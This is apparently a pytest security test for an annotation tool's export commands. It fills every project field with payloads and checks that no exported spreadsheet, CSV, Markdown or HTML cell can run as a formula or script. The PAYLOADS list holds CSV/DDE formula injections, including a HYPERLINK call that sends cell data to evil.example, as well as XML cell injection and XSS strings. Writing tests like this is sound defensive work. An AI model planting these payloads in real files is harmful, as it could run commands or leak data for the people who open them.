"""Formula and HTML injection: a project whose every text field carries a payload, exported by every
command that writes a file; every cell of every file is scanned.

The project is changed straight in its database, as a hostile file from another machine would be
(past the app's own checks on code ids, names and file names)."""
from __future__ import annotations

import csv
import re
import unicodedata
import zipfile
from itertools import cycle

import openpyxl
import pytest
from sqlalchemy import select

from burgerannotator.cli import main
from burgerannotator.core.models import Code, Coder, Document, Memo, Scale, Segment
from burgerannotator.core.store import Project

# One of each way a cell can start running (OWASP CSV injection, plus what spreadsheets skip first).
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"klik")',
    "＝HYPERLINK(\"http://x\",\"y\")",  # full-width equals
    "＋SUM(1)",  # full-width plus
    "－cmd|' /C calc'!A0",  # full-width minus
    "＠SUM(A1)",  # full-width at
    " =1+1",  # leading space
    "\t=1+1",
    "\u200b=1+1",  # zero-width space
    "\ufeff=1+1",  # byte-order mark
    "-2+3+cmd|' /C calc'!A0",
    "+HYPERLINK(\"http://x\")",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '<r><t>x</t></r></is></c><c r="Z1"><f>HYPERLINK("http://x","y")</f></c><c r="Z2" t="inlineStr"><is><r><t>y</t></r>',
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
]
_FORMULA_START = tuple("=+-@＝＋－＠")


def _visible(text: str) -> str:
    i = 0
    while i < len(text) and (text[i].isspace() or unicodedata.category(text[i]) in ("Cf", "Cc", "Zs")):
        i += 1
    return text[i:]


def runs_in_a_spreadsheet(text: str) -> bool:
    """Independent of the app's rule: '=' anything, or +-@ with a call NAME( or DDE |."""
    head = _visible(text)
    if head.startswith(("=", "＝")):
        return True
    return head.startswith(_FORMULA_START) and re.search(r"[A-Za-z_][\w.]*[(（]|[|｜]", head) is not None


@pytest.fixture
def hostile(demo_project_path):
    """The demo project with a payload in every text field (cycling through PAYLOADS)."""
    p = Project.open(demo_project_path)
    payload = cycle(PAYLOADS)
    with p.transaction() as s:
        for i, coder in enumerate(s.scalars(select(Coder)).all()):
            coder.name = f"{next(payload)} {i}"
        for i, code in enumerate(s.scalars(select(Code)).all()):
            code.code_id = f"{next(payload)} #{i}"
            code.name = next(payload)  # codes (and categories) share names: headers must still be unique
            code.definition, code.include, code.exclude = next(payload), next(payload), next(payload)
            code.terms = [next(payload)]
        for i, doc in enumerate(s.scalars(select(Document)).all()):
            attrs = dict(doc.attributes or {})
            attrs["city"] = f"{next(payload)} {i}"
            attrs[PAYLOADS[0]] = next(payload)  # an attribute whose NAME is a payload
            attrs["title"] = next(payload)
            doc.attributes = attrs
            doc.title, doc.author, doc.file_name = next(payload), next(payload), f"{next(payload)}.pdf"
        for seg in s.scalars(select(Segment)).all():
            seg.quote, seg.memo = next(payload), next(payload)
        for scale in s.scalars(select(Scale)).all():
            scale.scale_id, scale.name = next(payload), next(payload)
        docs = s.scalars(select(Document)).all()
        coders = s.scalars(select(Coder)).all()
        for doc, coder in zip(docs, cycle(coders)):
            s.add(Memo(target_kind="document", target_uuid=doc.uuid, coder_id=coder.id, text=next(payload)))
        p.changed("segments")
    p.close()
    return demo_project_path


def _xlsx_cells(path):
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.endswith(".xml"):
                assert b"<f>" not in z.read(name) and b"<f " not in z.read(name), (path.name, name)
    book = openpyxl.load_workbook(path)
    for ws in book.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (path.name, ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    yield ws.title, cell


def _csv_cells(path, sep):
    with open(path, encoding="utf-8-sig", newline="") as fh:
        for row in csv.reader(fh, delimiter=sep):
            yield from row


def _commands(project, out):
    """Every command that writes a file, with every way of writing it."""
    runs = [["export", project, "-o", f"{out}/export.xlsx"],
            ["export", project, "--by-coder", "--totals", "--ids", "-o", f"{out}/export-by-coder.xlsx"],
            ["summary", project, "-o", f"{out}/summary.md"],
            ["summary", project, "-o", f"{out}/summary.html"],
            ["summary", project, "--sep", ";", "-o", f"{out}/summary.csv"],
            ["agreement", project, "-o", f"{out}/agreement.xlsx"]]
    for measure in ("presence", "count", "coverage"):
        runs += [["matrix", project, "--measure", measure, "--by-coder", "--totals", "-o", f"{out}/m-{measure}.xlsx"],
                 ["matrix", project, "--measure", measure, "--sep", ";", "--totals", "-o", f"{out}/m-{measure}.csv"],
                 ["matrix", project, "--measure", measure, "--ids", "-o", f"{out}/m-{measure}-ids.csv"]]
    return runs


def test_no_cell_of_any_export_can_run(hostile, tmp_path, capsys):
    out = tmp_path / "out"
    out.mkdir()
    for argv in _commands(str(hostile), out):
        assert main(argv) == 0, (argv, capsys.readouterr().err)
    files = sorted(out.iterdir())
    assert len(files) == 15
    seen_payloads = set()
    for path in files:
        if path.suffix == ".xlsx":
            cells = list(_xlsx_cells(path))
            assert cells, path.name
            for sheet, cell in cells:
                text = cell.value
                seen_payloads.update(p for p in PAYLOADS if p in text)
                if _visible(text).startswith(_FORMULA_START):
                    # stored as the exact text, with Excel's quote prefix so editing it keeps it text
                    assert cell.data_type == "s" and cell.quotePrefix, (path.name, sheet, cell.coordinate, text)
        elif path.suffix == ".csv":
            cells = list(_csv_cells(path, ";" if "summary" in path.name or "ids" not in path.name else ","))
            assert cells, path.name
            for text in cells:
                seen_payloads.update(p for p in PAYLOADS if p in text)
                assert not runs_in_a_spreadsheet(text), (path.name, text)
        else:
            text = path.read_text(encoding="utf-8")
            assert "<script" not in text and "<img" not in text, path.name
            if path.suffix == ".md":
                assert "<" not in text  # no raw HTML at all in the Markdown
                assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
            else:
                assert 'onerror="' not in text and "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;" in text
    # every payload reached some file (the test exercised them all)
    assert seen_payloads == set(PAYLOADS)  # every payload reached some file: the test exercised them all


def test_raw_csv_keeps_every_text_exactly(hostile, tmp_path):
    raw, guarded = tmp_path / "raw.csv", tmp_path / "guarded.csv"
    assert main(["summary", str(hostile), "--raw", "--no-bom", "-o", str(raw)]) == 0
    assert main(["summary", str(hostile), "-o", str(guarded)]) == 0
    assert not raw.read_bytes().startswith(b"\xef\xbb\xbf") and guarded.read_bytes().startswith(b"\xef\xbb\xbf")
    p = Project.open(hostile, readonly=True)
    try:
        stored = {s.uuid: (s.quote, s.memo) for s in p.session.scalars(select(Segment))}
    finally:
        p.close()
    with open(raw, encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert len(rows) == len(stored) == 11  # the demo's segments
    for r in rows:
        assert (r["Quote"], r["Memo"]) == stored[r["Segment uuid"]]
    with open(guarded, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    for r in rows:
        quote = stored[r["Segment uuid"]][0]
        assert r["Quote"] == ("'" + quote if runs_in_a_spreadsheet(quote) else quote)
